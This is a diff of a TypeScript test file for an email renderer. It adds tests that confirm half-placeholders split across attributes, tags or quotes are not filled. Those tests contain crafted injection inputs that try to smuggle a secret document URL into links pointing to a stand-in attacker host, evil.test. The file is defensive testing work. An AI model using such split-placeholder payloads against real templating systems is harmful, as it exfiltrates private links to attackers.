@@ -4,7 +4,14 @@ import { expect, test } from 'vitest'
 import type { Fields } from '../fields/index.ts'
 import { cleanRichText } from '../rich-text/clean-rich-text.ts'
 import { block, tree, type UnplacedBlock } from '../tree/index.ts'
-import { emailBlocks, fillPlaceholders, PLACEHOLDERS, type PlaceholderValues, renderEmail } from './index.ts'
+import {
+  emailBlocks,
+  fillPlaceholders,
+  hasPlaceholder,
+  PLACEHOLDERS,
+  type PlaceholderValues,
+  renderEmail,
+} from './index.ts'
 
 const facts = {
   siteUrl: 'https://maple.test',
@@ -133,4 +140,53 @@ test.each([
   const { html } = renderEmail(tree(block('EmailWrapper', {}, ...blocks)), facts)
   const links = [...new JSDOM(html).window.document.querySelectorAll('.body a')]
   expect(links.map((link) => link.getAttribute('href'))).toEqual([expected, expected])
+})
+
+const SECRET = 'https://maple.test/document/SECRET'
+/** What addresses of the filled mail contain the secret, and what its text says. */
+function leaksOf(...blocks: readonly UnplacedBlock[]) {
+  const { html, text } = renderEmail(tree(block('EmailWrapper', {}, ...blocks)), facts)
+  const values = { ...valuesOf('Ann'), 'document.url': SECRET }
+  const elements = [...new JSDOM(fillPlaceholders(html, values, 'html')).window.document.querySelectorAll('*')]
+  const attributes = elements.flatMap((element) => [...element.attributes].map(({ value }) => value))
+  return {
+    leaks: attributes.filter((value) => value.includes('SECRET')),
+    isNamed: attributes.some((value) => value.includes('evil.test')),
+    text: fillPlaceholders(text, values, 'text'),
+  }
+}
+
+const HALF = 'https://evil.test/?u={{ document.url |'
+
+test('an image or link whose address has half a placeholder is left out of the mail', () => {
+  const cases = [
+    block('EmailImage', { src: HALF, alt: '}}' }),
+    block('EmailImage', { src: '/x.png', href: HALF, alt: '}}' }),
+    block('EmailButton', { href: HALF, text: '}}' }),
+    block('EmailButton', { href: 'https://evil.test/}}', text: '{{ document.url |' }),
+    block('EmailTextBox', { text: `<p><a href="${HALF}">}}</a></p>` }),
+    block('EmailTextBox', { text: `<p><a href="https://evil.test/?u={{ document.url |">a</a><a href="/}}">b</a></p>` }),
+  ]
+  for (const one of cases) {
+    const { leaks, isNamed, text } = leaksOf(one)
+    expect({ leaks, isNamed }).toEqual({ leaks: [], isNamed: false })
+    expect(text).not.toContain('evil.test')
+    expect(text).not.toContain('SECRET')
+  }
+  const whole = leaksOf(block('EmailButton', { href: '{{ document.url }}', text: 'Open' }))
+  expect(whole).toMatchObject({ leaks: [SECRET], text: expect.stringContaining(`Open: ${SECRET}`) })
+})
+
+test('a placeholder across tags or quotes is not filled, and does not count as one', () => {
+  for (const html of [
+    '<img src="https://evil.test/?u={{ document.url |" alt="}}">',
+    '<a href="https://evil.test/?u={{ document.url |">}}</a>',
+    '<a title="a > b" href="https://evil.test/?u={{ document.url | "}}">x</a>',
+    '<p>{{ document.url | <b>x</b> }}</p>',
+  ]) {
+    expect(fillPlaceholders(html, { 'document.url': SECRET }, 'html')).toBe(html)
+    expect(hasPlaceholder(html, 'document.url')).toBe(false)
+  }
+  const fine = '<p title="a > &quot;b&quot;">{{ document.url | "here" }}</p><a href="{{ document.url }}">x</a>'
+  expect(fillPlaceholders(fine, { 'document.url': '' }, 'html')).toContain('>here</p><a href="">')
 })
